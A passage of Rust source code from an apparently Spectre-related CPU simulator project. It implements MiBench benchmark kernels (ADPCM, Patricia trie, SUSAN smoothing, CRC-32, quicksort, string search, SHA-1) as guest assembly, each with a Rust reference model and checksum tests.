    asm.alui(AluOp::Shl, Reg::R8, Reg::R4, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R8);
    asm.ld(Width::D, Reg::R8, Reg::R9, 0); // step again
    asm.alui(AluOp::Sar, Reg::R13, Reg::R8, 3); // diffq = step >> 3
    asm.alui(AluOp::And, Reg::R9, Reg::R10, 4);
    asm.br(BranchCond::Eq, Reg::R9, Reg::R0, "ad_q2");
    asm.alu(AluOp::Add, Reg::R13, Reg::R13, Reg::R8);
    asm.label("ad_q2");
    asm.alui(AluOp::And, Reg::R9, Reg::R10, 2);
    asm.br(BranchCond::Eq, Reg::R9, Reg::R0, "ad_q1");
    asm.alui(AluOp::Sar, Reg::R9, Reg::R8, 1);
    asm.alu(AluOp::Add, Reg::R13, Reg::R13, Reg::R9);
    asm.label("ad_q1");
    asm.alui(AluOp::And, Reg::R9, Reg::R10, 1);
    asm.br(BranchCond::Eq, Reg::R9, Reg::R0, "ad_q0");
    asm.alui(AluOp::Sar, Reg::R9, Reg::R8, 2);
    asm.alu(AluOp::Add, Reg::R13, Reg::R13, Reg::R9);
    asm.label("ad_q0");
    // predictor += sign ? -diffq : diffq, clamped to i16.
    asm.br(BranchCond::Eq, Reg::R7, Reg::R0, "ad_addq");
    asm.alu(AluOp::Sub, Reg::R3, Reg::R3, Reg::R13);
    asm.jmp("ad_clamp");
    asm.label("ad_addq");
    asm.alu(AluOp::Add, Reg::R3, Reg::R3, Reg::R13);
    asm.label("ad_clamp");
    asm.ldi(Reg::R9, 32767);
    asm.br(BranchCond::Lt, Reg::R3, Reg::R9, "ad_clamp_lo");
    asm.mov(Reg::R3, Reg::R9);
    asm.label("ad_clamp_lo");
    asm.ldi(Reg::R9, -32768);
    asm.br(BranchCond::Ge, Reg::R3, Reg::R9, "ad_index_update");
    asm.mov(Reg::R3, Reg::R9);
    asm.label("ad_index_update");
    // index += index_table[code], clamped to 0..=88.
    asm.la(Reg::R9, "ad_index");
    asm.alui(AluOp::Shl, Reg::R10, Reg::R10, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.ld(Width::D, Reg::R9, Reg::R9, 0);
    asm.alu(AluOp::Add, Reg::R4, Reg::R4, Reg::R9);
    asm.br(BranchCond::Ge, Reg::R4, Reg::R0, "ad_index_hi");
    asm.ldi(Reg::R4, 0);
    asm.label("ad_index_hi");
    asm.ldi(Reg::R9, 88);
    asm.br(BranchCond::Lt, Reg::R4, Reg::R9, "ad_next");
    asm.mov(Reg::R4, Reg::R9);
    asm.label("ad_next");
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R2, "ad_loop");
    // checksum += final predictor (sign-folded) + final index
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R3);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R4);
    asm.ret();
    "ad_main"
}

/// Rust reference model of the guest checksum.
pub fn reference(n: i32) -> u64 {
    let mut checksum: u64 = 0;
    let mut predictor: i64 = 0;
    let mut index: i64 = 0;
    for sample in samples(n) {
        let mut diff = sample - predictor;
        let sign: i64 = if diff < 0 { 8 } else { 0 };
        if diff < 0 {
            diff = -diff;
        }
        let step = i64::from(STEP_TABLE[index as usize]);
        let mut code: i64 = 0;
        let mut remaining = diff;
        if remaining >= step {
            code |= 4;
            remaining -= step;
        }
        if remaining >= step >> 1 {
            code |= 2;
            remaining -= step >> 1;
        }
        if remaining >= step >> 2 {
            code |= 1;
        }
        checksum = checksum.wrapping_add((code | sign) as u64);
        let mut diffq = step >> 3;
        if code & 4 != 0 {
            diffq += step;
        }
        if code & 2 != 0 {
            diffq += step >> 1;
        }
        if code & 1 != 0 {
            diffq += step >> 2;
        }
        predictor = if sign != 0 { predictor - diffq } else { predictor + diffq };
        predictor = predictor.clamp(-32768, 32767);
        index = (index + i64::from(INDEX_TABLE[code as usize])).clamp(0, 88);
    }
    checksum
        .wrapping_add(predictor as u64)
        .wrapping_add(index as u64)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn index_never_escapes_table() {
        // Implicit in reference(); run it for a large n to exercise clamps.
        let _ = reference(2_000);
    }

    #[test]
    fn guest_matches_reference() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::Adpcm);
        assert_eq!(got, reference(600));
    }
}

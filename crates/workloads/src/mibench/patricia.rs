//! `patricia`: bit-trie routing-table lookups — MiBench's network
//! kernel. The trie is prebuilt at assembly time (as MiBench builds it
//! from its input file before the timed lookups); the guest performs the
//! lookups: pure data-dependent pointer chasing.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

/// Bits per key (trie depth).
pub(crate) const KEY_BITS: i32 = 16;

/// Prebuilt trie node: `[left, right, value]`, indices into the node
/// array (`0` = the root; leaves carry `value`, interior nodes 0).
#[derive(Debug, Clone, Copy)]
struct Node {
    left: u32,
    right: u32,
    value: u32,
}

fn xorshift32(x: &mut u32) -> u32 {
    *x ^= *x << 13;
    *x ^= *x >> 17;
    *x ^= *x << 5;
    *x
}

/// The routing keys inserted into the trie.
pub(crate) fn route_keys(n: i32) -> Vec<u16> {
    let mut x: u32 = 0x9a71_1c1a;
    (0..n).map(|_| (xorshift32(&mut x) >> 8) as u16).collect()
}

/// The lookup stream (mix of inserted and absent keys).
pub(crate) fn lookup_keys(n: i32) -> Vec<u16> {
    let routes = route_keys(128);
    let mut x: u32 = 0x100c_a5e5;
    (0..n)
        .map(|i| {
            if i % 3 == 0 {
                routes[(xorshift32(&mut x) as usize) % routes.len()]
            } else {
                (xorshift32(&mut x) >> 12) as u16
            }
        })
        .collect()
}

/// Builds the trie as a flat node array (shared by guest and model).
fn build_trie() -> Vec<Node> {
    let mut nodes = vec![Node { left: 0, right: 0, value: 0 }];
    for key in route_keys(128) {
        let mut at = 0usize;
        for bit in (0..KEY_BITS).rev() {
            let go_right = (key >> bit) & 1 == 1;
            let next = if go_right { nodes[at].right } else { nodes[at].left };
            let next = if next == 0 {
                nodes.push(Node { left: 0, right: 0, value: 0 });
                let idx = (nodes.len() - 1) as u32;
                if go_right {
                    nodes[at].right = idx;
                } else {
                    nodes[at].left = idx;
                }
                idx
            } else {
                next
            };
            at = next as usize;
        }
        nodes[at].value = u32::from(key) | 0x10000;
    }
    nodes
}

/// Emits the routine; entry label `pa_main`, checksum (sum of found
/// values) in `r11`.
pub fn emit(asm: &mut Asm, lookups: i32) -> &'static str {
    let trie = build_trie();
    asm.data_label("pa_trie");
    for node in &trie {
        asm.dq(u64::from(node.left));
        asm.dq(u64::from(node.right));
        asm.dq(u64::from(node.value));
    }
    asm.data_label("pa_keys");
    for key in lookup_keys(lookups) {
        asm.dq(u64::from(key));
    }

    asm.label("pa_main");
    asm.ldi(Reg::R11, 0);
    asm.ldi(Reg::R1, 0); // lookup index
    asm.ldi(Reg::R2, lookups);
    asm.label("pa_loop");
    // r3 = key
    asm.la(Reg::R9, "pa_keys");
    asm.alui(AluOp::Shl, Reg::R10, Reg::R1, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.ld(Width::D, Reg::R3, Reg::R9, 0);
    // walk the trie: r4 = node index, r5 = bit position
    asm.ldi(Reg::R4, 0);
    asm.ldi(Reg::R5, KEY_BITS - 1);
    asm.label("pa_walk");
    // r6 = (key >> bit) & 1
    asm.alu(AluOp::Shr, Reg::R6, Reg::R3, Reg::R5);
    asm.alui(AluOp::And, Reg::R6, Reg::R6, 1);
    // r7 = &trie[node]; child = r6 ? right : left
    asm.la(Reg::R7, "pa_trie");
    asm.alui(AluOp::Mul, Reg::R10, Reg::R4, 24);
    asm.alu(AluOp::Add, Reg::R7, Reg::R7, Reg::R10);
    asm.alui(AluOp::Shl, Reg::R10, Reg::R6, 3); // 0 or 8
    asm.alu(AluOp::Add, Reg::R7, Reg::R7, Reg::R10);
    asm.ld(Width::D, Reg::R4, Reg::R7, 0); // next node index
    asm.br(BranchCond::Eq, Reg::R4, Reg::R0, "pa_miss"); // dead end
    asm.br(BranchCond::Eq, Reg::R5, Reg::R0, "pa_leaf");
    asm.alui(AluOp::Sub, Reg::R5, Reg::R5, 1);
    asm.jmp("pa_walk");
    asm.label("pa_leaf");
    // checksum += trie[node].value
    asm.la(Reg::R7, "pa_trie");
    asm.alui(AluOp::Mul, Reg::R10, Reg::R4, 24);
    asm.alu(AluOp::Add, Reg::R7, Reg::R7, Reg::R10);
    asm.ld(Width::D, Reg::R6, Reg::R7, 16);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R6);
    asm.label("pa_miss");
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R2, "pa_loop");
    asm.ret();
    "pa_main"
}

/// Rust reference model.
pub fn reference(lookups: i32) -> u64 {
    let trie = build_trie();
    let mut checksum: u64 = 0;
    'keys: for key in lookup_keys(lookups) {
        let mut at = 0usize;
        for bit in (0..KEY_BITS).rev() {
            let go_right = (key >> bit) & 1 == 1;
            let next = if go_right { trie[at].right } else { trie[at].left };
            if next == 0 {
                continue 'keys;
            }
            at = next as usize;
        }
        checksum += u64::from(trie[at].value);
    }
    checksum
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn trie_finds_every_inserted_route() {
        let trie = build_trie();
        for key in route_keys(128) {
            let mut at = 0usize;
            for bit in (0..KEY_BITS).rev() {
                let next = if (key >> bit) & 1 == 1 { trie[at].right } else { trie[at].left };
                assert_ne!(next, 0, "route {key:#x} must be reachable");
                at = next as usize;
            }
            assert_eq!(trie[at].value, u32::from(key) | 0x10000);
        }
    }

    #[test]
    fn some_lookups_hit_and_some_miss() {
        // The reference sum is nonzero (hits exist) but smaller than if
        // every lookup hit.
        let hits = reference(300);
        assert!(hits > 0);
        let max_possible = 300u64 * (0xffff + 0x10000);
        assert!(hits < max_possible);
    }

    #[test]
    fn guest_matches_reference() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::Patricia);
        assert_eq!(got, reference(300));
    }
}

//! `susan`: image smoothing — MiBench's automotive vision kernel. A
//! brightness-thresholded 3×3 box filter over a synthetic image: 2-D
//! strided loads with a data-dependent accept/reject branch per
//! neighbour, exactly SUSAN's USAN-area character.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

/// Image width/height in pixels (one byte per pixel).
pub(crate) const DIM: i32 = 48;
/// Brightness-difference threshold for a neighbour to count.
const THRESHOLD: i64 = 27;

/// The synthetic input image shared by guest and model.
pub(crate) fn image() -> Vec<u8> {
    let mut x: u32 = 0x5a5a_0901;
    (0..DIM * DIM)
        .map(|i| {
            x = x.wrapping_mul(22695477).wrapping_add(1);
            // Gradient + blocks + noise: realistic edges for the filter.
            let gx = (i % DIM) * 2;
            let block = if (i / DIM / 8 + i % DIM / 8) % 2 == 0 { 60 } else { 0 };
            ((gx + block) as u32 + (x >> 27)) as u8
        })
        .collect()
}

/// Emits the routine; entry label `su_main`, checksum (sum of smoothed
/// interior pixels) in `r11`.
///
/// Register map: `r1` y, `r2` x, `r3` center, `r4` sum, `r5` count,
/// `r6` dy, `r7` dx, `r8`–`r10` scratch.
pub fn emit(asm: &mut Asm) -> &'static str {
    asm.data_label("su_img");
    asm.db(&image());

    asm.label("su_main");
    asm.ldi(Reg::R11, 0);
    asm.ldi(Reg::R1, 1);
    asm.label("su_y");
    asm.ldi(Reg::R2, 1);
    asm.label("su_x");
    // r3 = center brightness
    asm.la(Reg::R9, "su_img");
    asm.alui(AluOp::Mul, Reg::R10, Reg::R1, DIM);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R2);
    asm.ld(Width::B, Reg::R3, Reg::R9, 0);
    asm.ldi(Reg::R4, 0); // sum
    asm.ldi(Reg::R5, 0); // count
    asm.ldi(Reg::R6, -1); // dy
    asm.label("su_dy");
    asm.ldi(Reg::R7, -1); // dx
    asm.label("su_dx");
    // p = img[(y+dy)*DIM + (x+dx)]
    asm.alu(AluOp::Add, Reg::R10, Reg::R1, Reg::R6);
    asm.alui(AluOp::Mul, Reg::R10, Reg::R10, DIM);
    asm.alu(AluOp::Add, Reg::R10, Reg::R10, Reg::R2);
    asm.alu(AluOp::Add, Reg::R10, Reg::R10, Reg::R7);
    asm.la(Reg::R9, "su_img");
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.ld(Width::B, Reg::R8, Reg::R9, 0);
    // diff = |p - center|
    asm.alu(AluOp::Sub, Reg::R9, Reg::R8, Reg::R3);
    asm.br(BranchCond::Ge, Reg::R9, Reg::R0, "su_abs_done");
    asm.alu(AluOp::Sub, Reg::R9, Reg::R0, Reg::R9);
    asm.label("su_abs_done");
    asm.ldi(Reg::R10, THRESHOLD as i32);
    asm.br(BranchCond::Lt, Reg::R10, Reg::R9, "su_reject"); // diff > T
    asm.alu(AluOp::Add, Reg::R4, Reg::R4, Reg::R8);
    asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
    asm.label("su_reject");
    asm.alui(AluOp::Add, Reg::R7, Reg::R7, 1);
    asm.ldi(Reg::R10, 2);
    asm.br(BranchCond::Lt, Reg::R7, Reg::R10, "su_dx");
    asm.alui(AluOp::Add, Reg::R6, Reg::R6, 1);
    asm.br(BranchCond::Lt, Reg::R6, Reg::R10, "su_dy");
    // checksum += sum / count (count ≥ 1: the center always qualifies)
    asm.alu(AluOp::Divu, Reg::R9, Reg::R4, Reg::R5);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R9);
    asm.alui(AluOp::Add, Reg::R2, Reg::R2, 1);
    asm.ldi(Reg::R10, DIM - 1);
    asm.br(BranchCond::Ltu, Reg::R2, Reg::R10, "su_x");
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R10, "su_y");
    asm.ret();
    "su_main"
}

/// Rust reference model.
pub fn reference() -> u64 {
    let img = image();
    let dim = DIM as usize;
    let mut checksum: u64 = 0;
    for y in 1..dim - 1 {
        for x in 1..dim - 1 {
            let center = i64::from(img[y * dim + x]);
            let mut sum: i64 = 0;
            let mut count: i64 = 0;
            for dy in -1i64..=1 {
                for dx in -1i64..=1 {
                    let p = i64::from(
                        img[(y as i64 + dy) as usize * dim + (x as i64 + dx) as usize],
                    );
                    let diff = (p - center).abs();
                    if diff <= THRESHOLD {
                        sum += p;
                        count += 1;
                    }
                }
            }
            checksum = checksum.wrapping_add((sum / count) as u64);
        }
    }
    checksum
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn image_has_edges() {
        let img = image();
        let distinct: std::collections::BTreeSet<u8> = img.iter().copied().collect();
        assert!(distinct.len() > 40, "image must not be flat");
    }

    #[test]
    fn guest_matches_reference() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::Susan);
        assert_eq!(got, reference());
    }
}

//! `crc32`: bitwise (table-free) CRC-32 over a pseudorandom buffer —
//! byte-streaming loads with a data-dependent branch per bit.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

const POLY: u32 = 0xEDB8_8320;

/// Deterministic input buffer shared by guest and model.
pub(crate) fn input_data(len: i32) -> Vec<u8> {
    let mut x: u32 = 0xdead_beef;
    (0..len)
        .map(|_| {
            x = x.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (x >> 24) as u8
        })
        .collect()
}

/// Emits the routine; entry label `crc_main`, checksum (final CRC) in
/// `r11`.
pub fn emit(asm: &mut Asm, len: i32) -> &'static str {
    asm.data_label("crc_data");
    asm.db(&input_data(len));

    asm.label("crc_main");
    asm.ldi(Reg::R12, -1);
    asm.alui(AluOp::Shr, Reg::R12, Reg::R12, 32); // mask32
    asm.la(Reg::R1, "crc_data");
    asm.ldi(Reg::R2, len);
    asm.mov(Reg::R11, Reg::R12); // crc = 0xffff_ffff
    asm.ldi(Reg::R9, POLY as i32);
    asm.alu(AluOp::And, Reg::R9, Reg::R9, Reg::R12); // poly, 32-bit
    asm.label("crc_byte");
    asm.br(BranchCond::Eq, Reg::R2, Reg::R0, "crc_done");
    asm.ld(Width::B, Reg::R3, Reg::R1, 0);
    asm.alu(AluOp::Xor, Reg::R11, Reg::R11, Reg::R3);
    asm.ldi(Reg::R4, 0); // bit counter
    asm.label("crc_bit");
    asm.alui(AluOp::And, Reg::R5, Reg::R11, 1);
    asm.alui(AluOp::Shr, Reg::R11, Reg::R11, 1);
    asm.br(BranchCond::Eq, Reg::R5, Reg::R0, "crc_nobit");
    asm.alu(AluOp::Xor, Reg::R11, Reg::R11, Reg::R9);
    asm.label("crc_nobit");
    asm.alui(AluOp::Add, Reg::R4, Reg::R4, 1);
    asm.ldi(Reg::R5, 8);
    asm.br(BranchCond::Ltu, Reg::R4, Reg::R5, "crc_bit");
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.alui(AluOp::Sub, Reg::R2, Reg::R2, 1);
    asm.jmp("crc_byte");
    asm.label("crc_done");
    asm.alu(AluOp::Xor, Reg::R11, Reg::R11, Reg::R12); // final inversion
    asm.ret();
    "crc_main"
}

/// Rust reference model: standard reflected CRC-32.
pub fn reference(len: i32) -> u64 {
    let mut crc: u32 = 0xffff_ffff;
    for byte in input_data(len) {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            let lsb = crc & 1;
            crc >>= 1;
            if lsb != 0 {
                crc ^= POLY;
            }
        }
    }
    u64::from(crc ^ 0xffff_ffff)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reference_matches_known_crc_of_simple_input() {
        // Sanity-check the model against the textbook CRC-32 of "123456789"
        // computed with the same algorithm.
        let mut crc: u32 = 0xffff_ffff;
        for &b in b"123456789" {
            crc ^= u32::from(b);
            for _ in 0..8 {
                let lsb = crc & 1;
                crc >>= 1;
                if lsb != 0 {
                    crc ^= POLY;
                }
            }
        }
        assert_eq!(crc ^ 0xffff_ffff, 0xCBF4_3926, "CRC-32 check value");
    }

    #[test]
    fn guest_matches_reference() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::Crc32);
        assert_eq!(got, reference(1024));
    }
}

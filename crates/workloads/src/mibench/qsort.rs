//! `qsort`: iterative Lomuto quicksort over pseudorandom keys — branchy,
//! pointer-heavy memory traffic like MiBench's qsort.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

/// Deterministic keys shared by guest and model (u32 range, stored u64).
pub(crate) fn input_keys(n: i32) -> Vec<u64> {
    let mut x: u32 = 0x0051_e55e;
    (0..n)
        .map(|_| {
            x = x.wrapping_mul(0x9E37_79B9).wrapping_add(0x7F4A_7C15);
            u64::from(x)
        })
        .collect()
}

/// Emits the routine; entry label `qs_main`, checksum in `r11`:
/// `A[0] + A[n/2] + A[n-1] + 1_000_000 × inversions` (inversions must be
/// zero when the sort is correct).
pub fn emit(asm: &mut Asm, n: i32) -> &'static str {
    let keys = input_keys(n);
    asm.data_label("qs_data");
    for k in &keys {
        asm.dq(*k);
    }
    asm.data_label("qs_stack");
    asm.space(4 * n as u64 * 8 + 64);

    asm.label("qs_main");
    asm.la(Reg::R2, "qs_data");
    asm.la(Reg::R12, "qs_stack");
    // push (0, n-1)
    asm.st(Width::D, Reg::R12, Reg::R0, 0);
    asm.ldi(Reg::R9, n - 1);
    asm.st(Width::D, Reg::R12, Reg::R9, 8);
    asm.ldi(Reg::R1, 2); // stack depth in words

    asm.label("qs_loop");
    asm.br(BranchCond::Eq, Reg::R1, Reg::R0, "qs_done");
    // pop hi then lo
    asm.alui(AluOp::Sub, Reg::R1, Reg::R1, 1);
    asm.alui(AluOp::Shl, Reg::R9, Reg::R1, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R12);
    asm.ld(Width::D, Reg::R4, Reg::R9, 0); // hi
    asm.alui(AluOp::Sub, Reg::R1, Reg::R1, 1);
    asm.alui(AluOp::Shl, Reg::R9, Reg::R1, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R12);
    asm.ld(Width::D, Reg::R3, Reg::R9, 0); // lo
    // if lo >= hi (signed: hi may be lo-1 == -1) continue
    asm.br(BranchCond::Ge, Reg::R3, Reg::R4, "qs_loop");
    // pivot = A[hi]
    asm.alui(AluOp::Shl, Reg::R9, Reg::R4, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R2);
    asm.ld(Width::D, Reg::R5, Reg::R9, 0);
    asm.mov(Reg::R6, Reg::R3); // i = lo
    asm.mov(Reg::R7, Reg::R3); // j = lo
    asm.label("qs_part");
    asm.br(BranchCond::Ge, Reg::R7, Reg::R4, "qs_part_done"); // j < hi
    asm.alui(AluOp::Shl, Reg::R9, Reg::R7, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R2);
    asm.ld(Width::D, Reg::R8, Reg::R9, 0); // A[j]
    asm.br(BranchCond::Ltu, Reg::R5, Reg::R8, "qs_noswap"); // A[j] > pivot?
    // swap A[i], A[j]
    asm.alui(AluOp::Shl, Reg::R10, Reg::R6, 3);
    asm.alu(AluOp::Add, Reg::R10, Reg::R10, Reg::R2);
    asm.ld(Width::D, Reg::R13, Reg::R10, 0); // A[i]
    asm.st(Width::D, Reg::R10, Reg::R8, 0); // A[i] = A[j]
    asm.st(Width::D, Reg::R9, Reg::R13, 0); // A[j] = old A[i]
    asm.alui(AluOp::Add, Reg::R6, Reg::R6, 1);
    asm.label("qs_noswap");
    asm.alui(AluOp::Add, Reg::R7, Reg::R7, 1);
    asm.jmp("qs_part");
    asm.label("qs_part_done");
    // swap A[i], A[hi]
    asm.alui(AluOp::Shl, Reg::R9, Reg::R6, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R2);
    asm.ld(Width::D, Reg::R8, Reg::R9, 0); // A[i]
    asm.alui(AluOp::Shl, Reg::R10, Reg::R4, 3);
    asm.alu(AluOp::Add, Reg::R10, Reg::R10, Reg::R2);
    asm.ld(Width::D, Reg::R13, Reg::R10, 0); // A[hi]
    asm.st(Width::D, Reg::R9, Reg::R13, 0);
    asm.st(Width::D, Reg::R10, Reg::R8, 0);
    // push (lo, i-1)
    asm.alui(AluOp::Shl, Reg::R9, Reg::R1, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R12);
    asm.st(Width::D, Reg::R9, Reg::R3, 0);
    asm.alui(AluOp::Sub, Reg::R10, Reg::R6, 1);
    asm.st(Width::D, Reg::R9, Reg::R10, 8);
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 2);
    // push (i+1, hi)
    asm.alui(AluOp::Shl, Reg::R9, Reg::R1, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R12);
    asm.alui(AluOp::Add, Reg::R10, Reg::R6, 1);
    asm.st(Width::D, Reg::R9, Reg::R10, 0);
    asm.st(Width::D, Reg::R9, Reg::R4, 8);
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 2);
    asm.jmp("qs_loop");

    asm.label("qs_done");
    // checksum = A[0] + A[n/2] + A[n-1] + 1e6 * inversions
    asm.ld(Width::D, Reg::R11, Reg::R2, 0);
    asm.ld(Width::D, Reg::R9, Reg::R2, (n / 2) * 8);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R9);
    asm.ld(Width::D, Reg::R9, Reg::R2, (n - 1) * 8);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R9);
    asm.ldi(Reg::R3, 1); // j
    asm.ldi(Reg::R4, n);
    asm.label("qs_check");
    asm.br(BranchCond::Geu, Reg::R3, Reg::R4, "qs_check_done");
    asm.alui(AluOp::Shl, Reg::R9, Reg::R3, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R2);
    asm.ld(Width::D, Reg::R5, Reg::R9, -8); // A[j-1]
    asm.ld(Width::D, Reg::R6, Reg::R9, 0); // A[j]
    asm.br(BranchCond::Geu, Reg::R6, Reg::R5, "qs_ordered");
    asm.ldi(Reg::R10, 1_000_000);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R10);
    asm.label("qs_ordered");
    asm.alui(AluOp::Add, Reg::R3, Reg::R3, 1);
    asm.jmp("qs_check");
    asm.label("qs_check_done");
    asm.ret();
    "qs_main"
}

/// Rust reference model: sorted-array checksum with zero inversions.
pub fn reference(n: i32) -> u64 {
    let mut keys = input_keys(n);
    keys.sort_unstable();
    keys[0]
        .wrapping_add(keys[n as usize / 2])
        .wrapping_add(keys[n as usize - 1])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_are_deterministic() {
        assert_eq!(input_keys(8), input_keys(8));
    }

    #[test]
    fn guest_sorts_correctly() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::Qsort);
        assert_eq!(got, reference(256), "nonzero inversion term means the sort failed");
    }
}

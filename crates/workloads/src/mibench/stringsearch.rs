//! `stringsearch`: naive substring search of several needles over a text
//! corpus — data-dependent branching on byte comparisons.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

const NEEDLES: [&str; 4] = ["the", "spectre", "branch", "qqz"];

/// The search corpus shared by guest and model.
pub(crate) fn corpus() -> String {
    let phrases = [
        "the speculative processor mistrains the branch predictor ",
        "a spectre haunts the cache hierarchy and the counters ",
        "benign applications share the pipeline with the attacker ",
        "the branch history drives the transient window forward ",
    ];
    let mut text = String::new();
    for i in 0..12 {
        text.push_str(phrases[i % phrases.len()]);
    }
    text
}

/// Emits the routine; entry label `ss_main`, checksum (total match count
/// across all needles) in `r11`.
pub fn emit(asm: &mut Asm) -> &'static str {
    let text = corpus();
    asm.data_label("ss_text");
    asm.asciz(&text);
    for (k, needle) in NEEDLES.iter().enumerate() {
        asm.data_label(format!("ss_needle_{k}"));
        asm.asciz(needle);
    }

    asm.label("ss_main");
    asm.ldi(Reg::R11, 0);
    for (k, needle) in NEEDLES.iter().enumerate() {
        let nlen = needle.len() as i32;
        let last = text.len() as i32 - nlen; // last valid start index
        let outer = format!("ss_outer_{k}");
        let inner = format!("ss_inner_{k}");
        let matched = format!("ss_match_{k}");
        let advance = format!("ss_next_{k}");
        let done = format!("ss_done_{k}");
        asm.la(Reg::R1, "ss_text");
        asm.ldi(Reg::R2, last);
        asm.ldi(Reg::R3, 0); // i
        asm.label(outer.clone());
        asm.br(BranchCond::Lt, Reg::R2, Reg::R3, done.clone()); // i > last?
        asm.ldi(Reg::R4, 0); // j
        asm.label(inner.clone());
        asm.ldi(Reg::R9, nlen);
        asm.br(BranchCond::Geu, Reg::R4, Reg::R9, matched.clone());
        asm.alu(AluOp::Add, Reg::R9, Reg::R1, Reg::R3);
        asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R4);
        asm.ld(Width::B, Reg::R5, Reg::R9, 0); // text[i+j]
        asm.la(Reg::R10, format!("ss_needle_{k}"));
        asm.alu(AluOp::Add, Reg::R10, Reg::R10, Reg::R4);
        asm.ld(Width::B, Reg::R6, Reg::R10, 0); // needle[j]
        asm.br(BranchCond::Ne, Reg::R5, Reg::R6, advance.clone());
        asm.alui(AluOp::Add, Reg::R4, Reg::R4, 1);
        asm.jmp(inner);
        asm.label(matched);
        asm.alui(AluOp::Add, Reg::R11, Reg::R11, 1);
        asm.label(advance);
        asm.alui(AluOp::Add, Reg::R3, Reg::R3, 1);
        asm.jmp(outer);
        asm.label(done);
    }
    asm.ret();
    "ss_main"
}

/// Rust reference model: total naive-match count.
pub fn reference() -> u64 {
    let text = corpus();
    let bytes = text.as_bytes();
    let mut count = 0u64;
    for needle in NEEDLES {
        let n = needle.as_bytes();
        if n.len() > bytes.len() {
            continue;
        }
        for i in 0..=(bytes.len() - n.len()) {
            if &bytes[i..i + n.len()] == n {
                count += 1;
            }
        }
    }
    count
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reference_finds_the_but_not_qqz() {
        // "the" occurs many times; "qqz" never.
        assert!(reference() > 10);
        assert!(!corpus().contains("qqz"));
    }

    #[test]
    fn guest_matches_reference() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::StringSearch);
        assert_eq!(got, reference());
    }
}

//! `sha`: SHA-1 compression over pseudorandom input blocks.
//!
//! Faithful SHA-1 rounds (message-schedule expansion + 80 rotate/mix
//! rounds per 64-byte block) with one deliberate simplification: message
//! words are loaded **little-endian** (the guest ISA's native order)
//! instead of SHA-1's big-endian convention. The Rust reference model uses
//! the same convention, so checksums remain exact.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

/// Maximum number of blocks of input data placed in the image.
const MAX_BLOCKS: usize = 16;

/// Deterministic pseudo-random input material shared by guest and model.
pub(crate) fn input_data() -> Vec<u8> {
    let mut x: u32 = 0x0bad_cafe;
    let mut data = Vec::with_capacity(MAX_BLOCKS * 64);
    for _ in 0..MAX_BLOCKS * 64 {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        data.push(x as u8);
    }
    data
}

const H_INIT: [u32; 5] = [0x6745_2301, 0xEFCD_AB89, 0x98BA_DCFE, 0x1032_5476, 0xC3D2_E1F0];
const K: [u32; 4] = [0x5A82_7999, 0x6ED9_EBA1, 0x8F1B_BCDC, 0xCA62_C1D6];

/// Emits the routine; entry label `sha_main`, checksum in `r11`.
///
/// Register map: `r1` block, `r2` #blocks, `r3` t, `r4..r8` a..e,
